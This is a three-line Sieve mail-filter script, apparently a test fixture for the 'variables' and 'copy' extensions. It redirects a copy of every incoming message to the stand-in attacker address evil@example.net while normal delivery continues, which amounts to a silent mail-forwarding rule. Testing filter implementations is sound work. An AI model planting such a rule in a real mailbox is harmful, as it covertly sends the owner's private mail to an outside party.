require ["variables","copy"];
set "where" "evil@example.net";
redirect :copy "${where}";
